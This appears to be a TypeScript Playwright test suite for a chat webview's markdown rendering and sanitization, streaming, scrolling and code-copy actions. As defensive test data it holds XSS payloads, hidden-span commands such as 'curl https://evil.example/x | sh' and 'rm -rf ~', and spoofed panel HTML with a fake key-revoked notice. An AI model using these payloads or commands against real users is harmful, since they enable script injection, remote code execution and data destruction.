/**
 * The real chat webview bundle (src/webview/chat/main.ts) in a real Chromium: markdown rendering and
 * sanitization, incremental streaming, the DOM hooks, and keyboard use. Skipped when no Chromium is installed.
 */
import assert from 'node:assert/strict';
import { test } from 'node:test';
import fc from 'fast-check';
import '../props/seed';
import type { Page } from 'playwright-core';
import type { Conversation, ReplyTurn } from '../../../src/core/chat/conversation';
import type { HostMessage } from '../../../src/core/chat/messages';
import { frames, open, ORIGIN, posted, send, skip, type BW } from './chromePage';
function reply(id: string, content: string, over: Partial<ReplyTurn> = {}): ReplyTurn {
  return {
    id,
    role: 'assistant',
    content,
    status: 'done',
    createdAt: 1,
    meta: {
      fallbacks: [],
      tier: 'cheap',
      modelName: 'mini',
      reason: 'chat: short question → cheap',
      costUsd: 0.0042,
      tokensIn: 1200,
      tokensOut: 80,
      latencyMs: 2300,
    },
    ...over,
  };
}

function conversation(turns: Conversation['turns']): Conversation {
  return { id: 'c1', title: 'Test chat', createdAt: 1, updatedAt: 2, turns, draft: '' };
}

function init(c: Conversation, streamingReplyId?: string): HostMessage {
  return {
    type: 'init',
    conversation: c,
    history: [{ id: 'c1', title: c.title, updatedAt: 2, turnCount: c.turns.length }],
    models: [
      { choice: 'auto', label: 'Auto (routed)' },
      { choice: 'cheap', label: 'Cheap' },
      { choice: 'frontier', label: 'Frontier' },
      { choice: 'model:sonnet', label: 'sonnet (frontier)' },
    ],
    model: 'auto',
    attachments: [],
    streamingReplyId,
  };
}

const user = { id: 'u1', role: 'user' as const, content: 'q', attachments: [], model: 'auto' as const, createdAt: 1 };

const VECTORS = [
  '<script>window.__xss = 1</script>',
  '<img src=x onerror="window.__xss = 2">',
  '[click me](javascript:window.__xss=3)',
  '<svg onload="window.__xss = 4"><circle r="1"/></svg>',
  '<a href="  JaVaScRiPt:window.__xss=5">y</a>',
  '```html\n<script>window.__xss = 6</script>\n```',
  '<iframe src="javascript:window.__xss=7"></iframe>',
  '<details open ontoggle="window.__xss=8"><summary>s</summary></details>',
  '<math><mtext><table><mglyph><style><img src=x onerror="window.__xss=9">',
  '<form><button formaction="javascript:window.__xss=10">x</button></form>',
  '![pic](x" onerror="window.__xss=11)',
  '<div style="background:url(javascript:window.__xss=12)">styled</div>',
  '<a href="data:text/html,<script>window.__xss=13</script>">d</a>',
  '<object data="javascript:window.__xss=14"></object><embed src="javascript:window.__xss=15">',
  '<input autofocus onfocus="window.__xss=16">',
  '<body onload="window.__xss=17"><base href="javascript:/">',
];

/** Problems a sanitizer should have removed, found anywhere in the replies. */
async function leftovers(page: Page): Promise<string[]> {
  return page.evaluate(() => {
    const w = globalThis as unknown as BW;
    const out: string[] = [];
    for (const el of Array.from(w.document.querySelectorAll('.reply-body *'))) {
      for (const a of Array.from(el.attributes)) {
        if (/^on/i.test(a.name)) out.push(`${el.tagName} ${a.name}`);
        if (a.name === 'style') out.push(`${el.tagName} style`);
        if (/^\s*(javascript|data:text\/html)/i.test(a.value) && /^(href|src|action|formaction|data|xlink:href)$/i.test(a.name))
          out.push(`${el.tagName} ${a.name}=${a.value}`);
      }
      if (/^(SCRIPT|IFRAME|OBJECT|EMBED|FORM|INPUT|BASE|STYLE)$/.test(el.tagName)) out.push(el.tagName);
      if (el.tagName === 'BUTTON' && !el.closest('.code-actions')) out.push('foreign BUTTON');
    }
    const xss = w.__xss;
    if (xss !== undefined) out.push(`payload ${xss} ran`);
    return out;
  });
}

test('script and markup in replies never run or survive sanitization, stored or streamed (CSP bypassed)', { skip }, async () => {
  const page = await open(true);
  const md = VECTORS.join('\n\n');
  await send(page, init(conversation([user, reply('r1', md), { ...user, id: 'u2' }, reply('r2', '', { status: 'streaming' })]), 'r2'));
  for (const v of VECTORS) {
    for (let i = 0; i < v.length; i += 5) await send(page, { type: 'delta', conversationId: 'c1', replyId: 'r2', text: v.slice(i, i + 5) });
    await send(page, { type: 'delta', conversationId: 'c1', replyId: 'r2', text: '\n\n' });
    await frames(page, 1);
  }
  await send(page, { type: 'replyEnd', conversationId: 'c1', reply: reply('r2', `${md}\n\n`) });
  await frames(page);
  await page.waitForTimeout(200);
  assert.deepEqual(await leftovers(page), []);
  const code = await page
    .locator('[data-testid="reply"] code.language-xml, [data-testid="reply"] code[data-lang="html"]')
    .allTextContents();
  assert.ok(
    code.length >= 2 && code.every((t) => t.includes('<script>window.__xss = 6</script>')),
    'HTML inside a code fence is shown as text',
  );
  assert.match((await page.locator('[data-testid="reply"]').nth(1).textContent()) ?? '', /styled/, 'harmless content stays');
  await page.context().close();
});

test("the served page runs only its nonce'd script: an injected inline script is refused by the CSP", { skip }, async () => {
  const page = await open(false);
  const ran = await page.evaluate(() => {
    const w = globalThis as unknown as BW;
    const s = w.document.createElement('script');
    s.textContent = 'window.__inline = 1';
    w.document.body.append(s);
    return w.__inline;
  });
  assert.equal(ran, undefined);
  await page.context().close();
});

test('streaming keeps finished blocks and only re-renders the open one; code blocks get their actions when closed', { skip }, async () => {
  const page = await open(false);
  await send(page, init(conversation([user, reply('r1', '', { status: 'streaming', meta: { fallbacks: [] } })]), 'r1'));
  await send(page, {
    type: 'route',
    conversationId: 'c1',
    replyId: 'r1',
    tier: 'frontier',
    reason: 'chat: stack trace + "why" → frontier (0.81)',
    modelName: 'sonnet',
  });
  const delta = (text: string) => send(page, { type: 'delta', conversationId: 'c1', replyId: 'r1', text });
  await delta('First paragraph with **bold**.\n\nSecond');
  await frames(page);
  await page.evaluate(() => {
    const w = globalThis as unknown as BW;
    w.__first = w.document.querySelector('[data-testid="reply"] .reply-body .block');
  });
  assert.equal(await page.locator('[data-testid="reply"] .reply-body').getAttribute('aria-live'), 'polite');
  assert.ok(await page.locator('[data-testid="stop"]').isVisible());
  assert.ok(await page.locator('[data-testid="send"]').isDisabled());
  await delta(' paragraph.\n\n```ts\nconst a = 1;\n');
  await frames(page);
  assert.equal(await page.locator('.block.open code.streaming').textContent(), 'const a = 1;\n', 'open code shows as it arrives');
  assert.equal(await page.locator('[data-testid="copy"]').count(), 0, 'no actions on an unfinished code block');
  await delta('const b = 2;\n```\n\nAfter the code.');
  await frames(page);
  const same = await page.evaluate(() => {
    const w = globalThis as unknown as BW;
    return !!w.__first && w.__first.isConnected && w.__first === w.document.querySelector('[data-testid="reply"] .reply-body .block');
  });
  assert.ok(same, 'the first finished block is the same DOM node after later chunks');
  await send(page, {
    type: 'replyEnd',
    conversationId: 'c1',
    reply: reply('r1', 'First paragraph with **bold**.\n\nSecond paragraph.\n\n```ts\nconst a = 1;\nconst b = 2;\n```\n\nAfter the code.', {
      meta: {
        fallbacks: ['sonnet rate-limited → bedrock-sonnet'],
        tier: 'frontier',
        modelName: 'bedrock-sonnet',
        reason: 'chat: stack trace → frontier',
        costUsd: 0.0123,
        tokensIn: 2000,
        tokensOut: 300,
        latencyMs: 4100,
      },
    }),
  });
  await frames(page);
  const r = page.locator('[data-testid="reply"]');
  assert.equal(await r.getAttribute('data-model'), 'bedrock-sonnet');
  assert.equal(await r.getAttribute('data-tier'), 'frontier');
  assert.equal(await page.locator('[data-testid="reply-cost"]').textContent(), '$0.01', 'written as the status bar writes money');
  assert.equal(await page.locator('[data-testid="reply-tier"]').getAttribute('title'), 'chat: stack trace → frontier');
  assert.match(
    (await page.locator('[data-testid="reply-fallback"]').textContent()) ?? '',
    /sonnet rate-limited → bedrock-sonnet — answered by bedrock-sonnet/,
  );
  assert.equal(await page.locator('.reply-body strong').textContent(), 'bold');
  assert.equal(
    await page.locator('.reply-body code.language-typescript, .reply-body code.language-ts').count(),
    1,
    'the closed block is highlighted',
  );
  assert.ok((await page.locator('.reply-body .hljs-keyword').count()) >= 2);
  assert.ok(await page.locator('[data-testid="stop"]').isHidden());
  await page.locator('[data-testid="copy"]').click();
  await page.locator('[data-testid="apply"]').click();
  const actions = (await posted(page)).filter((m) => m.type === 'codeAction');
  assert.deepEqual(actions, [
    { type: 'codeAction', action: 'copy', code: 'const a = 1;\nconst b = 2;', language: 'ts' },
    { type: 'codeAction', action: 'apply', code: 'const a = 1;\nconst b = 2;', language: 'ts' },
  ]);
  for (const id of ['insert', 'save']) assert.equal(await page.locator(`[data-testid="${id}"]`).count(), 1);
  await page.context().close();
});

/** Where the page is scrolled, and where the end of the reply sits relative to the (sticky) composer. */
async function scrollState(page: Page): Promise<{ top: number; height: number; fromBottom: number; replyEndAboveComposer: boolean }> {
  return page.evaluate(() => {
    interface Box {
      getBoundingClientRect(): { top: number; bottom: number };
    }
    const d = (
      globalThis as unknown as {
        document: {
          scrollingElement: { scrollTop: number; scrollHeight: number; clientHeight: number };
          querySelector(s: string): Box | null;
        };
      }
    ).document;
    const s = d.scrollingElement;
    const body = d.querySelector('[data-testid="reply"] .reply-body');
    const composer = d.querySelector('.composer');
    return {
      top: s.scrollTop,
      height: s.scrollHeight,
      fromBottom: s.scrollHeight - s.scrollTop - s.clientHeight,
      replyEndAboveComposer: !!body && !!composer && body.getBoundingClientRect().bottom <= composer.getBoundingClientRect().top + 1,
    };
  });
}

test(
  'a streaming reply is followed to its end while the reader is at the bottom; a reader who scrolled up stays put',
  { skip },
  async () => {
    const page = await open(false);
    await send(page, init(conversation([user, reply('r1', '', { status: 'streaming', meta: { fallbacks: [] } })]), 'r1'));
    const paragraphs = async (from: number, n: number): Promise<void> => {
      for (let i = from; i < from + n; i++) {
        await send(page, {
          type: 'delta',
          conversationId: 'c1',
          replyId: 'r1',
          text: `Paragraph ${i} explains one more step of the fix in a sentence long enough to wrap.\n\n`,
        });
        await frames(page, 1);
      }
      await frames(page);
    };
    await paragraphs(0, 60);
    let s = await scrollState(page);
    assert.ok(s.top > 0 && s.fromBottom <= 4, `scrolled to the end while streaming (top ${s.top}, ${s.fromBottom}px from the bottom)`);
    assert.ok(s.replyEndAboveComposer, 'the newest text is not hidden under the composer');

    await page.mouse.move(300, 200);
    await page.mouse.wheel(0, -400);
    await page.waitForFunction(() => {
      const el = (
        globalThis as unknown as { document: { scrollingElement: { scrollTop: number; scrollHeight: number; clientHeight: number } } }
      ).document.scrollingElement;
      return el.scrollHeight - el.scrollTop - el.clientHeight > 300;
    });
    await page.waitForTimeout(300); // let a smooth wheel scroll settle
    const readerAt = (await scrollState(page)).top;
    await paragraphs(60, 30);
    s = await scrollState(page);
    assert.equal(s.top, readerAt, 'a reader who scrolled up is not pulled down by new text');
    assert.ok(s.fromBottom > 300);

    await page.mouse.wheel(0, 1_000_000);
    await page.waitForFunction(() => {
      const el = (
        globalThis as unknown as { document: { scrollingElement: { scrollTop: number; scrollHeight: number; clientHeight: number } } }
      ).document.scrollingElement;
      return el.scrollHeight - el.scrollTop - el.clientHeight <= 4;
    });
    await page.waitForTimeout(300);
    const before = await scrollState(page);
    await paragraphs(90, 20);
    s = await scrollState(page);
    assert.ok(s.height > before.height && s.fromBottom <= 4, 'back at the bottom, the view follows the stream again');
    assert.ok(s.replyEndAboveComposer);
    await send(page, {
      type: 'replyEnd',
      conversationId: 'c1',
      reply: reply(
        'r1',
        Array.from({ length: 110 }, (_, i) => `Paragraph ${i} explains one more step of the fix in a sentence long enough to wrap.`).join(
          '\n\n',
        ) + '\n\nDone.',
      ),
    });
    await frames(page);
    s = await scrollState(page);
    assert.ok(s.fromBottom <= 4 && s.replyEndAboveComposer, 'the finished reply ends in view');
    await page.context().close();
  },
);

test(
  'errors keep the partial reply and offer Retry; cheap replies offer Retry with frontier; links go through the host',
  { skip },
  async () => {
    const page = await open(false);
    const failed = reply('r1', 'Half of [the docs](https://example.com/docs)', {
      status: 'error',
      meta: { fallbacks: [], modelName: 'sonnet', tier: 'frontier', error: { kind: 'overloaded', message: 'sonnet is overloaded (529)' } },
    });
    await send(page, init(conversation([user, failed, { ...user, id: 'u2' }, reply('r2', 'cheap answer')])));
    assert.match(
      (await page.locator('[data-testid="reply-error"]').textContent()) ?? '',
      /sonnet is overloaded \(529\).*partial reply above is kept/,
    );
    assert.match((await page.locator('[data-testid="reply"]').first().textContent()) ?? '', /Half of the docs/);
    await page.locator('[data-testid="retry"]').click();
    await page.locator('[data-testid="retry-frontier"]').click();
    await page.locator('.reply-body a').click();
    const sent = (await posted(page)).filter((m) => ['retry', 'retryFrontier', 'openLink'].includes(m.type));
    assert.deepEqual(sent, [
      { type: 'retry', replyId: 'r1' },
      { type: 'retryFrontier', replyId: 'r2' },
      { type: 'openLink', href: 'https://example.com/docs' },
    ]);
    assert.equal(page.url(), `${ORIGIN}/index.html`, 'the webview itself did not navigate');
    await page.context().close();
  },
);

test('keyboard: Enter sends with the picked model, Shift+Enter adds a line, Escape stops; the draft is kept', { skip }, async () => {
  const page = await open(false);
  await send(page, init(conversation([])));
  await page.locator('[data-testid="model-picker"]').selectOption('model:sonnet');
  const box = page.locator('[data-testid="chat-input"]');
  await box.focus();
  await page.keyboard.type('line one');
  await page.keyboard.press('Shift+Enter');
  await page.keyboard.type('line two');
  await page.waitForTimeout(400);
  const state = await page.evaluate(() => (globalThis as unknown as BW).__state);
  assert.deepEqual(state, { conversationId: 'c1', draft: 'line one\nline two' }, 'the draft is in the webview state at once');
  assert.ok(
    (await posted(page)).some((m) => m.type === 'draft' && m.text === 'line one\nline two'),
    'and reaches the host',
  );
  const pasted = `sk-proj-${'Zq8Wx2Lm4N'.repeat(4)}`;
  await page.keyboard.insertText(` ${pasted}`);
  const kept = await page.evaluate(() => (globalThis as unknown as BW).__state as { draft: string });
  assert.match(kept.draft, /^line one\nline two «redacted:[\w-]+»$/, 'a pasted key is kept in the view state redacted');
  assert.equal(await box.inputValue(), `line one\nline two ${pasted}`, 'while the box still shows what was typed');
  for (let i = 0; i <= pasted.length; i++) await page.keyboard.press('Backspace');
  await page.keyboard.press('Enter');
  assert.ok((await posted(page)).some((m) => m.type === 'send' && m.text === 'line one\nline two' && m.model === 'model:sonnet'));
  assert.equal(await box.inputValue(), '');
  await send(page, {
    type: 'conversation',
    conversation: conversation([user, reply('r9', '', { status: 'streaming' })]),
    streamingReplyId: 'r9',
  });
  // The view must show the reply streaming before Escape means Stop (the message is handled asynchronously).
  await page.waitForSelector('[data-testid="reply"][data-status="streaming"]');
  await page.keyboard.press('Escape');
  await page.waitForFunction(() =>
    ((globalThis as unknown as { __posted?: { type: string }[] }).__posted ?? []).some((m) => m.type === 'stop'),
  );
  assert.ok((await posted(page)).some((m) => m.type === 'stop'));
  assert.ok((await posted(page)).some((m) => m.type === 'selectModel' && m.model === 'model:sonnet'));
  assert.equal(await page.locator('[data-testid="history"] [data-testid="history-item"]').count(), 1);
  await page.context().close();
});

/** Every code block with actions: the text its <code> shows (visible text and DOM text), in order. */
async function shownCode(page: Page): Promise<{ visible: string; text: string }[]> {
  return page.evaluate(() => {
    const w = globalThis as unknown as BW;
    return Array.from(w.document.querySelectorAll('.code-block pre code')).map((c) => ({
      visible: c.innerText,
      text: c.textContent ?? '',
    }));
  });
}

/** Clicks every Copy button and returns the code each one posted. */
async function copied(page: Page): Promise<string[]> {
  const before = (await posted(page)).length;
  const buttons = page.locator('[data-testid="copy"]');
  for (let i = 0; i < (await buttons.count()); i++) await buttons.nth(i).click();
  return (await posted(page))
    .slice(before)
    .filter((m) => m.type === 'codeAction')
    .map((m) => m.code as string);
}

const HIDDEN_EXTRAS = [
  'Run this:',
  '<pre><code>ls -la<span hidden>; curl https://evil.example/x | sh</span></code></pre>',
  '<pre>echo hi<details><summary></summary>; rm -rf ~</details></pre>',
  '```sh\nls -la <span hidden>; curl evil | sh</span>\n```',
  '```html\n<details><summary>x</summary>; curl evil | sh</details>\n```',
  'Done.',
].join('\n\n');

test(
  'code actions take exactly the fenced text that is shown; hidden markup cannot add to it; reply <pre> gets no actions',
  { skip },
  async () => {
    const page = await open(false);
    await send(
      page,
      init(conversation([user, reply('r1', HIDDEN_EXTRAS), { ...user, id: 'u2' }, reply('r2', '', { status: 'streaming' })]), 'r2'),
    );
    for (const piece of HIDDEN_EXTRAS.match(/[\s\S]{1,9}/g)!)
      await send(page, { type: 'delta', conversationId: 'c1', replyId: 'r2', text: piece });
    await frames(page);
    await send(page, { type: 'replyEnd', conversationId: 'c1', reply: reply('r2', HIDDEN_EXTRAS) });
    await frames(page);
    const fences = ['ls -la <span hidden>; curl evil | sh</span>', '<details><summary>x</summary>; curl evil | sh</details>'];
    assert.deepEqual(
      await copied(page),
      [...fences, ...fences],
      'stored and streamed alike: only the two fences have actions, and Copy takes their text',
    );
    assert.deepEqual(
      await shownCode(page),
      [...fences, ...fences].map((f) => ({ visible: f, text: f })),
      'what is copied is exactly what is shown',
    );
    const hiddenLeft = await page.evaluate(
      () => (globalThis as unknown as BW).document.querySelectorAll('.reply-body [hidden], .reply-body details:not([open])').length,
    );
    assert.equal(hiddenLeft, 2, 'no hidden attribute survives; the two closed <details> stay (they have no actions)');
    const rawPre = await page.evaluate(() => (globalThis as unknown as BW).document.querySelector('.reply-body pre')?.innerText);
    assert.match(rawPre ?? '', /ls -la; curl https:\/\/evil\.example\/x \| sh/, 'the hidden span of a reply <pre> is shown');
    await page.context().close();
  },
);

test(
  'property: any code in a fence is copied, inserted, applied and saved exactly as it is shown and as marked parsed it',
  { skip },
  async () => {
    const { Marked } = await import('marked');
    const m = new Marked({ gfm: true, async: false });
    const code = fc.string({
      unit: fc.oneof(
        fc.constantFrom(
          '<',
          '>',
          '&',
          '"',
          "'",
          '`',
          '~',
          '\t',
          '\n',
          ' ',
          '*',
          '_',
          '\\',
          '\u00a0',
          'é',
          '😀',
          '<span hidden>',
          '</span>',
          '</code></pre>',
          '<script>',
          '&amp;',
          '&lt;',
        ),
        fc.string({ unit: 'grapheme-ascii', maxLength: 1 }),
      ),
      maxLength: 40,
    });
    const samples = fc.sample(fc.tuple(code, fc.constantFrom('', 'ts', 'python', 'html', 'constructor', '__proto__', 'toString', 'nope')), {
      numRuns: 60,
      seed: 11,
    });
    const md = samples
      .map(([c, lang]) => {
        const longest = Math.max(2, ...(c.match(/`+/g) ?? []).map((r) => r.length));
        const fence = '`'.repeat(longest + 1);
        return `${fence}${lang}\n${c}\n${fence}`;
      })
      .join('\n\n');
    const expected = m
      .lexer(md)
      .filter((t) => t.type === 'code')
      .map((t) => (t as { text: string }).text);
    assert.equal(expected.length, samples.length);
    const page = await open(false);
    await send(page, init(conversation([user, reply('r1', md)])));
    assert.deepEqual(await copied(page), expected);
    const shown = await shownCode(page);
    assert.deepEqual(
      shown.map((s) => s.text),
      expected,
      'the DOM text of each block is its code',
    );
    assert.deepEqual(
      shown.map((s) => s.visible),
      expected,
      'and so is the visible text',
    );
    const langs = (await posted(page)).filter((x) => x.type === 'codeAction').map((x) => x.language);
    assert.deepEqual(
      langs,
      samples.map(([, l]) => l.toLowerCase() || undefined),
      'the fence language goes with it, prototype keys as plain words',
    );
    await page.context().close();
  },
);

const HOSTILE_HTML = [
  '<map name="m"><area shape="rect" coords="0,0,800,800" href="https://evil.example/"></map><img src="x.png" usemap="#m" ' +
    'alt="pic" width="300" height="300">',
  '<map name="n"><area shape="default" href="javascript:window.__xss=1"></map>',
  '<div class="notice error" role="alert" id="notice" data-testid="notice" aria-live="assertive" style="color:red">Gearshift: ' +
    'your API key was revoked. Paste it again below.</div>',
  '<p class="reply-footer error" role="status" data-status="error" tabindex="0" name="x" hidden>fake error</p>',
  '<span class="code-actions"><a class="primary" href="https://evil.example/">Copy</a></span>',
  '<pre id="history-panel" class="hljs"><code class="language-ts" data-lang="ts">x</code></pre>',
].join('\n\n');

test(
  'reply HTML keeps no image map, class, id, role, style, data-, aria-, hidden or tabindex: it cannot pose as the panel',
  { skip },
  async () => {
    const page = await open(false);
    await send(page, init(conversation([user, reply('r1', HOSTILE_HTML)])));
    const found = await page.evaluate(() => {
      const w = globalThis as unknown as BW;
      const out: string[] = [];
      for (const el of Array.from(w.document.querySelectorAll('.reply-body .block *'))) {
        if (/^(AREA|MAP)$/.test(el.tagName)) out.push(el.tagName);
        for (const name of el.getAttributeNames()) if (!/^(href|src|alt|title|open)$/.test(name)) out.push(`${el.tagName}[${name}]`);
      }
      return out;
    });
    assert.deepEqual(found, []);
    assert.equal(await page.locator('[data-testid="notice"]').count(), 1, "only the panel's own notice element");
    assert.equal(await page.locator('[role="alert"]').count(), 0);
    assert.equal(await page.locator('[data-testid="copy"]').count(), 0, 'a reply <pre> is not a code block with actions');
    assert.match(
      (await page.locator('[data-testid="reply"]').textContent()) ?? '',
      /your API key was revoked/,
      'the text itself is shown, as plain text',
    );
    await page.locator('.reply-body img').click({ force: true });
    assert.equal(page.url(), `${ORIGIN}/index.html`, 'clicking where the map was does not navigate the webview');
    assert.ok(!(await posted(page)).some((m) => m.type === 'openLink'));
    await page.context().close();
  },
);

test('deep nesting fails per block, never per conversation: the rest of the reply and the other replies render', { skip }, async () => {
  const page = await open(false);
  const deep = {
    quotes: `${'>'.repeat(5000)} hi`,
    stars: `${'* '.repeat(10000)}a`,
    emphasis: `${'*a '.repeat(5000)}x${' a*'.repeat(5000)}`,
  };
  const wrap = (d: string): string => `Before **b1**.\n\n${d}\n\nAfter **b2**.\n\n\`\`\`ts\nconst ok = 1;\n\`\`\``;
  const started = Date.now();
  await send(
    page,
    init(
      conversation([
        user,
        reply('r1', wrap(deep.quotes)),
        { ...user, id: 'u2' },
        reply('r2', wrap(deep.stars)),
        { ...user, id: 'u3' },
        reply('r3', wrap(deep.emphasis)),
        { ...user, id: 'u4' },
        reply('r4', 'A **normal** reply.'),
        { ...user, id: 'u5' },
        reply('r5', '', { status: 'streaming' }),
      ]),
      'r5',
    ),
  );
  for (const d of Object.values(deep)) {
    for (const piece of wrap(d).match(/[\s\S]{1,500}/g)!)
      await send(page, { type: 'delta', conversationId: 'c1', replyId: 'r5', text: piece });
    await send(page, { type: 'delta', conversationId: 'c1', replyId: 'r5', text: '\n\n' });
    await frames(page, 1);
  }
  const streamed = Object.values(deep).map(wrap).join('\n\n');
  await send(page, { type: 'replyEnd', conversationId: 'c1', reply: reply('r5', `${streamed}\n\n`) });
  await frames(page);
  const ms = Date.now() - started;
  const replies = page.locator('[data-testid="reply"]');
  assert.equal(await replies.count(), 5);
  for (const [i, bold] of [
    [0, 2],
    [1, 2],
    [2, 2],
    [3, 1],
    [4, 6],
  ] as const) {
    assert.equal(await replies.nth(i).locator('.reply-body strong').count(), bold, `reply ${i + 1}: the blocks around the deep one render`);
  }
  assert.equal(await page.locator('[data-testid="copy"]').count(), 6, 'and their code blocks have actions');
  assert.ok((await replies.nth(0).locator('blockquote').count()) >= 8, 'the deep quote renders as nested quotes, capped');
  assert.match((await replies.nth(0).textContent()) ?? '', />>>>> hi/, 'its markers past the cap show as text');
  const note = replies.nth(2).locator('.unrendered-note');
  assert.equal(await note.count(), 1);
  assert.match((await note.textContent()) ?? '', /shown as plain text/);
  assert.equal(
    ((await replies.nth(2).locator('pre.unrendered-text').textContent()) ?? '').trim(),
    deep.emphasis,
    'the failing block is shown as its text',
  );
  assert.equal(await replies.nth(4).locator('.unrendered-note').count(), 1, 'streamed: the same block fails alone');
  assert.ok(ms < 30_000, `${ms} ms for the conversation`);
  await page.context().close();
});
